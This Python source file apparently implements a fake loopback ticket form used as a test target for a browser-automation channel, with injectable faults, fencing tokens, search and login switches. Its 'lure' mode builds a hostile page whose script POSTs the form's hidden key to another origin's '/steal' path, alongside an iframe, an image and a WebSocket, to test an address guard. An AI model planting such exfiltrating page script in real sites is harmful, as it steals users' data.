"""A fake web form on loopback: the target the browser channel drives in tests and the demo.

``GET /form`` is a login-free form (``title``, ``body``, and two hidden inputs: the
idempotency key and the fencing token; ``?key=K`` pre-fills the key, for targets that carry
it as a URL parameter). ``POST /submit`` accepts it and renders a confirmation page with
``<span id="confirmation" data-id="T-1">``. ``GET /accepted?key=K`` lists the accepted
submissions (JSON), the lookup. It does NOT dedupe: a second submit of one key is a second
accepted entry, so a double submit shows. It fences: a submission whose fencing token is
lower than one already accepted for its key is refused (``id="stale"``, 409).

``GET /search?q=K`` is the same list as a page for a search-page lookup: one
``<li class="result" data-id="T-1" data-key="K">`` per accepted submission whose key
contains ``q`` (a fuzzy search, so a result may carry another key), or
``<p id="no-results">``; without ``q``, only its search box (``#q``, ``#search``).

Login required (``login_required`` in the config, ``--login-required``, or at run time
``login_required(True)`` / ``POST /switches {"login_required": true}``): the form and the
submit redirect to ``GET /login``, a sign-in page (``id="login"``, its button also
``id="submit"``) that accepts nothing.

A hostile target, for the browser's address guard (Python only, ``lure``): the form
redirects to another URL (``redirect``), or its page reaches another origin (``reach``) by
an iframe, an image, a script's ``fetch`` POST of the key and a WebSocket.

Faults on command (Python or ``POST /faults``), by key or for the next submissions, or as a
seeded random mix: ``slow`` (accepted, answered after ``delay_s``), ``crash`` (accepted,
then the connection is dropped without an answer), ``error`` (accepted, then a 500 error
page ``id="error"``), ``reject`` (a 422 page ``id="rejected"``, nothing accepted).
"""

from __future__ import annotations

import asyncio
import enum
import html
import json
import random
import threading
import time
from dataclasses import dataclass, field
from typing import Any

from aiohttp import web
from pydantic import BaseModel, ConfigDict, Field, ValidationError

from ledger.simulator.app_server import AppServer


class FormFaultKind(enum.StrEnum):
    """What goes wrong with one submission, and whether it was accepted first."""

    SLOW = "slow"  # accepted, the confirmation answered only after delay_s
    CRASH = "crash"  # accepted, then the connection dropped: no answer at all
    ERROR = "error"  # accepted, then a 500 error page
    REJECT = "reject"  # a 422 page saying why; nothing accepted


class FormFault(BaseModel):
    """A fault for the next ``count`` submissions carrying ``key`` (any key: None)."""

    model_config = ConfigDict(frozen=True, extra="forbid")

    kind: FormFaultKind
    key: str | None = None
    count: int = Field(default=1, ge=1, le=1_000_000)
    delay_s: float = Field(default=10.0, ge=0, le=300)
    reason: str = "the title is not allowed"


class FakeFormConfig(BaseModel):
    """Where it listens, and the seeded random fault mix (fractions of submissions)."""

    model_config = ConfigDict(frozen=True, extra="forbid")

    host: str = "127.0.0.1"
    port: int = Field(default=0, ge=0, le=65535)
    seed: int = 0
    slow_share: float = Field(default=0.0, ge=0, le=1)
    crash_share: float = Field(default=0.0, ge=0, le=1)
    error_share: float = Field(default=0.0, ge=0, le=1)
    reject_share: float = Field(default=0.0, ge=0, le=1)
    delay_s: float = Field(default=10.0, ge=0, le=300)
    # The form and the submit redirect to the login page (switchable at run time).
    login_required: bool = False


class FormSwitches(BaseModel):
    """Run-time switches (``POST /switches``): only the ones given change."""

    model_config = ConfigDict(frozen=True, extra="forbid")

    login_required: bool | None = None


@dataclass(frozen=True)
class Submission:
    """One accepted submission: the target's id for it and what the form carried."""

    id: str
    key: str
    fencing_token: int | None
    fields: dict[str, str]
    at: float

    def listed(self) -> dict[str, Any]:
        """As ``GET /accepted`` lists it."""
        return {
            "id": self.id,
            "key": self.key,
            "fencing_token": self.fencing_token,
            "fields": self.fields,
            "at": self.at,
        }


@dataclass
class _State:
    lock: threading.Lock = field(default_factory=threading.Lock)
    accepted: list[Submission] = field(default_factory=list)
    faults: list[tuple[FormFault, int]] = field(default_factory=list)
    highest_token: dict[str, int] = field(default_factory=dict)
    posts: int = 0
    login_required: bool = False
    redirect: str | None = None  # the form redirects here (302)
    reach: str | None = None  # the form's page reaches this origin
    slow_load_s: float = 0.0  # the form's page finishes loading only after this long


FORM_PAGE = """<!doctype html>
<html><head><title>Ticket form</title></head><body>
<h1>File a ticket</h1>
<form id="ticket" method="post" action="/submit">
  <label>Title <input id="title" name="title"></label>
  <label>Body <textarea id="body" name="body"></textarea></label>
  <input type="hidden" id="idempotency-key" name="idempotency_key" value="{key}">
  <input type="hidden" id="fencing-token" name="fencing_token" value="">
  <button id="submit" type="submit">Submit</button>
</form>
{lure}</body></html>
"""


SEARCH_BOX = """<form id="search-form" method="get" action="/search">
  <label>Key <input id="q" name="q" value="{q}"></label>
  <button id="search" type="submit">Search</button>
</form>"""

LOGIN_PAGE = """<h1>Sign in</h1>
<form id="login" method="post" action="/login">
  <label>User <input id="username" name="username"></label>
  <label>Password <input id="password" name="password" type="password"></label>
  <button id="submit" type="submit">Sign in</button>
</form>"""


def _reaching(origin: str) -> str:
    """HTML and a script of the form's page that reach ``origin`` every way a page can."""
    quoted = html.escape(origin, quote=True)
    script = json.dumps(origin)
    socket = json.dumps("ws" + origin.removeprefix("http") + "/socket")
    return (
        f'<iframe id="reached" src="{quoted}/frame" width="600" height="300"></iframe>'
        f'<img src="{quoted}/image.png" alt="">'
        "<script>"
        f"fetch({script} + '/steal', {{method: 'POST', mode: 'no-cors', "
        "body: document.getElementById('idempotency-key').value}).catch(() => {});"
        f"try {{ new WebSocket({socket}); }} catch (e) {{}}"
        "</script>"
    )


def _page(title: str, body: str) -> str:
    return (
        f"<!doctype html><html><head><title>{html.escape(title)}</title></head>"
        f"<body>{body}</body></html>"
    )


class FakeForm:
    """The target app; ``async with`` starts and stops it. Observation is thread-safe."""

    def __init__(self, config: FakeFormConfig | None = None) -> None:
        self.config = config or FakeFormConfig()
        self.port = 0
        self._state = _State(login_required=self.config.login_required)
        self._rng = random.Random(self.config.seed)  # noqa: S311 - fault injection
        self._server = AppServer()

    @property
    def url(self) -> str:
        """The app's base URL (no trailing slash)."""
        return f"http://{self.config.host}:{self.port}"

    async def start(self) -> None:
        """Bind the port and serve."""
        app = web.Application()
        app.router.add_get("/form", self._form)
        app.router.add_post("/submit", self._submit)
        app.router.add_get("/accepted", self._accepted)
        app.router.add_post("/faults", self._faults)
        app.router.add_get("/search", self._search)
        app.router.add_get("/slow.png", self._slow_image)
        app.router.add_get("/login", self._login)
        app.router.add_post("/login", self._login)
        app.router.add_post("/switches", self._switches)
        self.port = await self._server.serve(app, self.config.host, self.config.port)

    async def stop(self) -> None:
        """Stop serving."""
        await self._server.stop()

    async def __aenter__(self) -> FakeForm:
        await self.start()
        return self

    async def __aexit__(self, *_exc: object) -> None:
        await self.stop()

    # -- control and observation (any thread) ----------------------------------------------

    def fault(self, kind: FormFaultKind | str, **fields: Any) -> FormFault:
        """Arm a fault for the next matching submissions (key, count, delay_s, reason)."""
        fault = FormFault(kind=FormFaultKind(kind), **fields)
        with self._state.lock:
            self._state.faults.append((fault, fault.count))
        return fault

    def login_required(self, required: bool) -> None:
        """Switch the login redirect of the form and the submit on or off."""
        with self._state.lock:
            self._state.login_required = required

    def lure(
        self, *, redirect: str | None = None, reach: str | None = None, slow_load_s: float = 0.0
    ) -> None:
        """Make the form hostile: redirect to ``redirect``, or reach the origin ``reach``
        from its page (iframe, image, fetch POST, WebSocket); None: no longer. With
        ``slow_load_s`` the page's load event waits that long (an image of this server's that
        answers late), as a page on a busy host does."""
        with self._state.lock:
            self._state.redirect = redirect
            self._state.reach = reach
            self._state.slow_load_s = min(max(slow_load_s, 0.0), 300.0)

    def _login_redirect(self) -> None:
        with self._state.lock:
            required = self._state.login_required
        if required:
            raise web.HTTPFound("/login?next=/form")

    def accepted(self, key: str | None = None) -> list[Submission]:
        """Accepted submissions (with ``key``: those carrying it), oldest first."""
        with self._state.lock:
            return [s for s in self._state.accepted if key in (None, s.key)]

    @property
    def posts(self) -> int:
        """How many submissions arrived (accepted or not)."""
        with self._state.lock:
            return self._state.posts

    # -- the app -----------------------------------------------------------------------------

    async def _form(self, request: web.Request) -> web.Response:
        self._login_redirect()
        with self._state.lock:
            redirect, reach = self._state.redirect, self._state.reach
            slow = self._state.slow_load_s
        if redirect is not None:
            raise web.HTTPFound(redirect)
        key = html.escape(request.query.get("key", ""), quote=True)
        lure = _reaching(reach) if reach is not None else ""
        if slow > 0:
            lure += '<img src="/slow.png" alt="">'
        return web.Response(text=FORM_PAGE.format(key=key, lure=lure), content_type="text/html")

    async def _slow_image(self, request: web.Request) -> web.Response:
        with self._state.lock:
            slow = self._state.slow_load_s
        await asyncio.sleep(slow)
        raise web.HTTPNotFound()

    def _take_fault(self, key: str) -> FormFault | None:
        with self._state.lock:
            for i, (fault, left) in enumerate(self._state.faults):
                if fault.key in (None, key):
                    if left <= 1:
                        del self._state.faults[i]
                    else:
                        self._state.faults[i] = (fault, left - 1)
                    return fault
        return self._random_fault()

    def _random_fault(self) -> FormFault | None:
        c = self.config
        roll = self._rng.random()
        for kind, share in (
            (FormFaultKind.REJECT, c.reject_share),
            (FormFaultKind.CRASH, c.crash_share),
            (FormFaultKind.ERROR, c.error_share),
            (FormFaultKind.SLOW, c.slow_share),
        ):
            if roll < share:
                return FormFault(kind=kind, delay_s=c.delay_s)
            roll -= share
        return None

    def _accept(self, key: str, token: int | None, fields: dict[str, str]) -> Submission | str:
        with self._state.lock:
            highest = self._state.highest_token.get(key)
            if token is not None and highest is not None and token < highest:
                return f"fencing token {token} is older than {highest} for this key"
            if token is not None:
                self._state.highest_token[key] = token
            submission = Submission(
                id=f"T-{len(self._state.accepted) + 1}",
                key=key,
                fencing_token=token,
                fields=fields,
                at=time.time(),
            )
            self._state.accepted.append(submission)
            return submission

    async def _submit(self, request: web.Request) -> web.StreamResponse:
        form = await request.post()
        fields = {k: v for k, v in form.items() if isinstance(v, str)}
        with self._state.lock:
            self._state.posts += 1
        self._login_redirect()  # a real app signs in first: nothing is accepted
        key = fields.pop("idempotency_key", "")
        raw_token = fields.pop("fencing_token", "")
        if not key:
            body = '<p class="error" id="rejected">the idempotency key is missing</p>'
            return web.Response(status=422, text=_page("Rejected", body), content_type="text/html")
        token = int(raw_token) if raw_token.isdigit() else None
        fault = self._take_fault(key)
        if fault is not None and fault.kind is FormFaultKind.REJECT:
            body = f'<p class="error" id="rejected">{html.escape(fault.reason)}</p>'
            return web.Response(status=422, text=_page("Rejected", body), content_type="text/html")
        outcome = self._accept(key, token, fields)
        if isinstance(outcome, str):
            body = f'<p class="error" id="stale">{html.escape(outcome)}</p>'
            return web.Response(status=409, text=_page("Stale", body), content_type="text/html")
        if fault is not None and fault.kind is FormFaultKind.CRASH:
            return await self._crash(request)
        if fault is not None and fault.kind is FormFaultKind.ERROR:
            body = '<h1 id="error">Something went wrong</h1>'
            return web.Response(status=500, text=_page("Error", body), content_type="text/html")
        if fault is not None and fault.kind is FormFaultKind.SLOW:
            await asyncio.sleep(fault.delay_s)
        body = (
            f'<p>Ticket filed: <span id="confirmation" data-id="{outcome.id}">'
            f"{outcome.id}</span></p>"
        )
        return web.Response(text=_page("Filed", body), content_type="text/html")

    async def _crash(self, request: web.Request) -> web.StreamResponse:
        # The answer starts, then the connection dies. Not before the first byte: Chromium
        # resends a POST once when a socket it took from its pool (even a preconnected,
        # unused one) closes with no answer at all, which would turn this crash into a
        # browser-level double submit (README: The browser channel).
        response = web.StreamResponse(status=200, headers={"content-type": "text/html"})
        response.content_length = 4096
        await response.prepare(request)
        await response.write(b"<!doctype html><html><body><p>Filing your ticket")
        await asyncio.sleep(0.05)
        if request.transport is not None:
            request.transport.abort()
        return response

    async def _accepted(self, request: web.Request) -> web.Response:
        key = request.query.get("key")
        listed = [s.listed() for s in self.accepted(key)]
        return web.json_response({"key": key, "accepted": listed})

    async def _faults(self, request: web.Request) -> web.Response:
        try:
            fault = FormFault.model_validate(await request.json())
        except (ValueError, ValidationError) as exc:
            return web.json_response({"error": str(exc).splitlines()[0]}, status=400)
        self.fault(fault.kind, **fault.model_dump(exclude={"kind"}))
        return web.json_response(fault.model_dump(mode="json"))

    async def _search(self, request: web.Request) -> web.Response:
        q = request.query.get("q", "")
        box = SEARCH_BOX.format(q=html.escape(q, quote=True))
        if not q:
            return web.Response(text=_page("Search", box), content_type="text/html")
        found = [s for s in self.accepted() if q in s.key]
        items = "".join(
            f'<li class="result" data-id="{s.id}" data-key="{html.escape(s.key, quote=True)}">'
            f"{s.id}: {html.escape(s.fields.get('title', ''))}</li>"
            for s in found
        )
        results = f'<ul id="results">{items}</ul>' if found else '<p id="no-results">No results</p>'
        return web.Response(text=_page("Search", box + results), content_type="text/html")

    async def _login(self, request: web.Request) -> web.Response:
        del request
        return web.Response(text=_page("Sign in", LOGIN_PAGE), content_type="text/html")

    async def _switches(self, request: web.Request) -> web.Response:
        try:
            switches = FormSwitches.model_validate(await request.json())
        except (ValueError, ValidationError) as exc:
            return web.json_response({"error": str(exc).splitlines()[0]}, status=400)
        if switches.login_required is not None:
            self.login_required(switches.login_required)
        with self._state.lock:
            return web.json_response({"login_required": self._state.login_required})
